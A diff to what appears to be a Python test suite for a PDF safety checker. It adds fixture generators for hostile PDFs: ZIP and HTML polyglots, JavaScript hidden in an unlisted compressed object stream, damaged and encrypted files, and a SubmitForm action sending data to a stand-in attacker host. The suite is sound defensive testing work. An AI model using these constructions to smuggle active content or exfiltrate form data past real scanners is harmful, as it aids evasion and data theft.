@@ -20,9 +20,12 @@ from pypdf import PdfReader, PdfWriter
 HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
 
 
-def assemble_pdf(objects: list[bytes], *, before_xref: bytes = b"") -> bytes:
+def assemble_pdf(
+    objects: list[bytes], *, before_xref: bytes = b"", trailer: bytes = b""
+) -> bytes:
     """Return a PDF of the numbered objects (1 being the catalog), with
-    `before_xref` placed as it is between them and the cross-reference table.
+    `before_xref` placed as it is between them and the cross-reference table,
+    and `trailer` as further trailer entries.
     """
     body = bytearray(HEADER)
     offsets = []
@@ -35,7 +38,7 @@ def assemble_pdf(objects: list[bytes], *, before_xref: bytes = b"") -> bytes:
     body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     for offset in offsets:
         body += b"%010d 00000 n \n" % offset
-    body += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
+    body += b"trailer\n<< /Size %d %s/Root 1 0 R >>\n" % (len(objects) + 1, trailer)
     body += b"startxref\n%d\n%%%%EOF\n" % xref_at
     return bytes(body)
 
@@ -108,9 +111,11 @@ def assemble_pdf_with_object_stream(
     inside: set[int],
     stream_data: bytes | None = None,
     stream_filter: bytes = b"/FlateDecode",
+    trailer: bytes = b"",
 ) -> bytes:
     """Return a PDF 1.5 file whose objects numbered in `inside` live in an
-    object stream, indexed by a cross-reference stream.
+    object stream, indexed by a cross-reference stream whose dictionary
+    holds `trailer` as further entries.
 
     `stream_data` replaces the object stream's encoded content, for files
     whose object stream is not what it claims to be.
@@ -147,7 +152,7 @@ def assemble_pdf_with_object_stream(
             rows.append(struct.pack(">BIH", 2, stream_number, packed[number]))
         else:
             rows.append(struct.pack(">BIH", 1, offsets[number], 0))
-    xref = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
+    xref = b"/Type /XRef /Size %d /W [1 4 2] %s/Root 1 0 R" % (xref_number + 1, trailer)
     body += b"%d 0 obj\n%s\nendobj\n" % (xref_number, stream(xref, b"".join(rows)))
     body += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
     return bytes(body)
@@ -161,10 +166,14 @@ def written_by_pypdf() -> bytes:
     return written(writer)
 
 
-def incrementally_updated() -> bytes:
+def incrementally_updated(*, between: bytes = b"") -> bytes:
     """Return a PDF with one incremental update appended, as a signing tool
-    or a form filler leaves it: the original bytes, then the changes."""
-    writer = PdfWriter(io.BytesIO(minimal_pdf()), incremental=True)
+    or a form filler leaves it: the original bytes, then the changes.
+
+    `between` goes after the original end marker, before the update, whose
+    offsets count it, so readers find every object where the tables say.
+    """
+    writer = PdfWriter(io.BytesIO(minimal_pdf() + between), incremental=True)
     writer.add_metadata({"/Title": "Signed agreement, countersigned"})
     return written(writer)
 
@@ -179,6 +188,41 @@ def encrypted_pdf(*, user_password: str, owner_password: str) -> bytes:
         algorithm="AES-256",
     )
     return written(writer)
+
+
+# What the standard security handler writes, with keys that open nothing.
+ENCRYPTION = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s> >>" % (
+    b"00" * 32,
+    b"00" * 32,
+)
+
+
+def damaged_pdf(*extra: bytes, trailer: bytes = b"", packed: bool = False) -> bytes:
+    """Return the agreement with extra objects (6, 7...) and trailer entries,
+    its startxref pointing past the end of the file, so no reader finds the
+    cross-reference table."""
+    objects = agreement_objects() + list(extra)
+    if packed:
+        pdf = assemble_pdf_with_object_stream(
+            objects, inside={1, 2, 3, 5}, trailer=trailer
+        )
+    else:
+        pdf = assemble_pdf(objects, trailer=trailer)
+    head = pdf[: pdf.rindex(b"startxref")]
+    return head + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + 1000)
+
+
+def certificate_encrypted_pdf() -> bytes:
+    """Return a PDF encrypted for the holders of certificates, a security
+    handler pypdf cannot open."""
+    encryption = (
+        b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 "
+        b"/Recipients [<%s>] >>" % (b"30" * 16)
+    )
+    return assemble_pdf(
+        [*agreement_objects(), encryption],
+        trailer=b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (b"ab" * 16, b"ab" * 16),
+    )
 
 
 def written(writer: PdfWriter) -> bytes:
@@ -236,6 +280,67 @@ def truncated_pdf() -> bytes:
 def trailing_data_pdf() -> bytes:
     """Return a PDF with an HTML page appended after its end marker."""
     return minimal_pdf() + HTML_PAGE
+
+
+def startxref_of(pdf: bytes) -> int:
+    return int(pdf.rsplit(b"startxref", 1)[1].split()[0])
+
+
+def zip_polyglot_pdf() -> bytes:
+    """Return a PDF followed by a ZIP archive whose comment repeats the PDF's
+    startxref and end marker: a PDF reader finds its table through them, and
+    an archive tool finds the archive, which ends in that comment."""
+    pdf = minimal_pdf()
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w") as archive:
+        archive.writestr("agreement.docx", "Signed agreement")
+        archive.comment = b"\nstartxref\n%d\n%%%%EOF\n" % startxref_of(pdf)
+    return pdf + output.getvalue()
+
+
+def zip_between_objects_pdf() -> bytes:
+    """Return a PDF with a ZIP archive between its objects and its
+    cross-reference table, before its only end marker."""
+    return assemble_pdf(agreement_objects(), before_xref=zip_archive() + b"\n")
+
+
+def html_in_comment_pdf() -> bytes:
+    """Return a PDF with an HTML page in a comment, which PDF readers skip
+    and a browser that sniffs the content renders."""
+    return assemble_pdf(agreement_objects(), before_xref=comment_of(HTML_PAGE))
+
+
+def comment_of(text: bytes) -> bytes:
+    return b"".join(b"%" + line + b"\n" for line in text.splitlines())
+
+
+def zip_in_image_pdf() -> bytes:
+    """Return a page with an image whose pixels are a ZIP archive, which ZIP
+    tools open although it sits in a stream body."""
+    return image_pdf(zip_archive())
+
+
+def zip_signatures_in_image_pdf() -> bytes:
+    """Return a page with an image whose pixels hold the three signatures of
+    ZIP records among other bytes, as image data may by chance."""
+    ramp = bytes(range(0, 256, 4))
+    return image_pdf(
+        ramp + b"PK\x03\x04" + ramp + b"PK\x01\x02" + ramp + b"PK\x05\x06" + ramp
+    )
+
+
+def image_pdf(pixels: bytes) -> bytes:
+    """Return a page that shows a one-row grey image of these pixels,
+    deflated without compression so they stay readable in the file."""
+    image = stream(
+        b"/Type /XObject /Subtype /Image /Width %d /Height 1 /ColorSpace "
+        b"/DeviceGray /BitsPerComponent 8 /Filter /FlateDecode" % len(pixels),
+        zlib.compress(pixels, 0),
+    )
+    objects = [*agreement_objects(), image]
+    objects[2] = objects[2].replace(b">> >>", b">> /XObject << /Im1 6 0 R >> >>")
+    objects[3] = stream(b"", b"q 540 0 0 20 36 700 cm /Im1 Do Q")
+    return assemble_pdf(objects)
 
 
 def pageless_pdf() -> bytes:
@@ -371,6 +476,92 @@ def rich_media_pdf(*, packed: bool = False) -> bytes:
     )
 
 
+def annotation_pdf(entries: bytes, *extra: bytes, packed: bool = False) -> bytes:
+    """Return a page with an annotation (object 6) of these entries; further
+    objects start at 7."""
+    return agreement_with(
+        b"<< /Type /Annot %s /Rect [72 700 300 720] >>" % entries,
+        *extra,
+        page=b"/Annots [6 0 R] ",
+        packed=packed,
+    )
+
+
+def link_pdf(action: bytes, *extra: bytes, packed: bool = False) -> bytes:
+    """Return a page with a link (object 6) that runs `action`."""
+    return annotation_pdf(b"/Subtype /Link /A " + action, *extra, packed=packed)
+
+
+def uri_link_pdf(target: bytes, *, packed: bool = False) -> bytes:
+    """Return a page with a link to `target`, a PDF string as it is written."""
+    return link_pdf(b"<< /S /URI /URI %s >>" % target, packed=packed)
+
+
+def thread_link_pdf(*, packed: bool = False) -> bytes:
+    """Return a page with a link to the start of an article thread of its own;
+    the thread's /F is its first bead, not a file."""
+    return agreement_with(
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
+        b"/A << /S /Thread /D 7 0 R /B 8 0 R >> >>",
+        b"<< /Type /Thread /F 8 0 R /I << /Title (Terms) >> >>",
+        b"<< /Type /Bead /T 7 0 R /N 8 0 R /V 8 0 R /P 3 0 R /R [72 72 540 720] >>",
+        catalog=b"/Threads [7 0 R] ",
+        page=b"/Annots [6 0 R] /B [8 0 R] ",
+        packed=packed,
+    )
+
+
+SOUND = stream(b"/Type /Sound /R 8000 /C 1 /B 8 /E /Raw", bytes(64))
+MEDIA_CLIP = (
+    b"<< /Type /MediaClip /S /MCD /CT (video/mp4) "
+    b"/D << /Type /Filespec /F (intro.mp4) >> >>"
+)
+# Each is a link's action and the objects it needs, numbered from 7.
+EXTERNAL_ACTIONS = {
+    "go-to-remote": (b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] /NewWindow true >>",),
+    "go-to-embedded": (b"<< /S /GoToE /T << /R /C /N (terms.pdf) >> /D [0 /Fit] >>",),
+    "import-data": (b"<< /S /ImportData /F (answers.fdf) >>",),
+    "submit-form": (
+        b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>",
+    ),
+    "thread-in-other-file": (b"<< /S /Thread /F (other.pdf) /D 0 >>",),
+}
+MEDIA_ACTIONS = {
+    "rendition": (
+        b"<< /S /Rendition /OP 0 /R << /Type /Rendition /S /MR /C 7 0 R >> >>",
+        MEDIA_CLIP,
+    ),
+    "movie": (b"<< /S /Movie /T (Introduction) /Operation /Play >>",),
+    "sound": (b"<< /S /Sound /Sound 7 0 R >>", SOUND),
+    "3d-view": (b"<< /S /GoTo3DView /TA 6 0 R /V /F >>",),
+    "rich-media-execute": (
+        b"<< /S /RichMediaExecute /TA 6 0 R /CMD << /C (play) >> >>",
+    ),
+}
+# Each is an annotation's entries and the objects they need, from 7 on.
+MEDIA_ANNOTATIONS = {
+    "screen": (b"/Subtype /Screen /T (Introduction)",),
+    "movie": (b"/Subtype /Movie /Movie << /F (intro.mov) >>",),
+    "sound": (b"/Subtype /Sound /Sound 7 0 R", SOUND),
+    "3d": (b"/Subtype /3D /3DD 7 0 R", stream(b"/Type /3D /Subtype /U3D", b"U3D")),
+}
+
+
+def javascript_in_unlisted_object_stream() -> bytes:
+    return unlisted_object_stream_pdf(b"<< /S /JavaScript /JS (%s) >>" % SCRIPT)
+
+
+def unlisted_object_stream_pdf(packed_object: bytes) -> bytes:
+    """Return a PDF with a compressed object stream (99) holding one object
+    (100), neither of which the cross-reference table lists."""
+    index = b"100 0 "
+    orphan = b"99 0 obj\n%s\nendobj\n" % stream(
+        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(index),
+        zlib.compress(index + packed_object),
+    )
+    return assemble_pdf(agreement_objects(), before_xref=orphan)
+
+
 def gibibytes_of_zeros_deflated(gibibytes: int) -> bytes:
     """Return a zlib stream that inflates to `gibibytes` GiB of zero bytes.
 
@@ -454,6 +645,10 @@ ACTIONS_ON_EVENTS = "runs actions on events"
 ATTACHED = "files attached"
 TOO_COMPLEX = "This PDF is too complex to check"
 PASSWORD = "This PDF is protected by a password"
+AFTER_END = "after its end marker"
+FOREIGN = "data of another kind, such as an archive or a web page"
+ELSEWHERE = "opens other files or sends data elsewhere"
+RICH_MEDIA = "rich media"
 
 # Active content, each found where a byte search could see it and again
 # inside a compressed object stream, where only the parsed objects show it.
@@ -474,7 +669,30 @@ ACTIVE_CONTENT = [
     ("embedded-file", embedded_file_pdf, "embedded_file", ATTACHED),
     ("file-attachment", file_attachment_annotation_pdf, "embedded_file", ATTACHED),
     ("xfa", xfa_form_pdf, "xfa_form", "XFA form"),
-    ("rich-media", rich_media_pdf, "rich_media", "rich media"),
+    ("rich-media", rich_media_pdf, "rich_media", RICH_MEDIA),
+    *[
+        (f"action-{kind}", partial(link_pdf, *objects), "external_action", ELSEWHERE)
+        for kind, objects in EXTERNAL_ACTIONS.items()
+    ],
+    *[
+        (f"action-{kind}", partial(link_pdf, *objects), "rich_media", RICH_MEDIA)
+        for kind, objects in MEDIA_ACTIONS.items()
+    ],
+    *[
+        (
+            f"annotation-{kind}",
+            partial(annotation_pdf, *parts),
+            "rich_media",
+            RICH_MEDIA,
+        )
+        for kind, parts in MEDIA_ANNOTATIONS.items()
+    ],
+    (
+        "javascript-link",
+        partial(uri_link_pdf, b"(javascript:app.alert\\(1\\))"),
+        "javascript",
+        JAVASCRIPT,
+    ),
 ]
 
 HOSTILE_FILES = [
@@ -483,9 +701,24 @@ HOSTILE_FILES = [
     HostileFile("html-signed", html_with_pdf_signature, "not_pdf_content", NOT_A_PDF),
     HostileFile("html-first", html_before_pdf, "data_before_header", "in front of"),
     HostileFile("truncated", truncated_pdf, "truncated", "The file is cut short"),
+    HostileFile("trailing-data", trailing_data_pdf, "trailing_data", AFTER_END),
     HostileFile(
-        "trailing-data", trailing_data_pdf, "trailing_data", "after its end marker"
+        "data-between-revisions",
+        partial(incrementally_updated, between=b"hidden payload\n"),
+        "trailing_data",
+        AFTER_END,
     ),
+    HostileFile(
+        "zip-between-objects", zip_between_objects_pdf, "foreign_data", FOREIGN
+    ),
+    HostileFile("html-in-comment", html_in_comment_pdf, "foreign_data", FOREIGN),
+    HostileFile(
+        "html-in-comments-between-revisions",
+        partial(incrementally_updated, between=comment_of(HTML_PAGE)),
+        "foreign_data",
+        FOREIGN,
+    ),
+    HostileFile("damaged", damaged_pdf, "unreadable", "damaged and cannot be read"),
     HostileFile(
         "user-password",
         partial(encrypted_pdf, user_password="open sesame", owner_password="owner"),
@@ -495,6 +728,15 @@ HOSTILE_FILES = [
     HostileFile(
         "owner-password",
         partial(encrypted_pdf, user_password="", owner_password="owner"),
+        "encrypted",
+        PASSWORD,
+    ),
+    HostileFile(
+        "certificate-encrypted", certificate_encrypted_pdf, "encrypted", PASSWORD
+    ),
+    HostileFile(
+        "damaged-encrypted",
+        partial(damaged_pdf, ENCRYPTION, trailer=b"/Encrypt 6 0 R "),
         "encrypted",
         PASSWORD,
     ),
@@ -509,6 +751,12 @@ HOSTILE_FILES = [
     ],
     HostileFile(
         "javascript-unlisted", javascript_in_unlisted_object, "javascript", JAVASCRIPT
+    ),
+    HostileFile(
+        "javascript-unlisted-compressed",
+        javascript_in_unlisted_object_stream,
+        "javascript",
+        JAVASCRIPT,
     ),
     HostileFile("compression-bomb", compression_bomb_pdf, "too_complex", TOO_COMPLEX),
     HostileFile("deep-nesting", deeply_nested_pdf, "too_complex", TOO_COMPLEX),
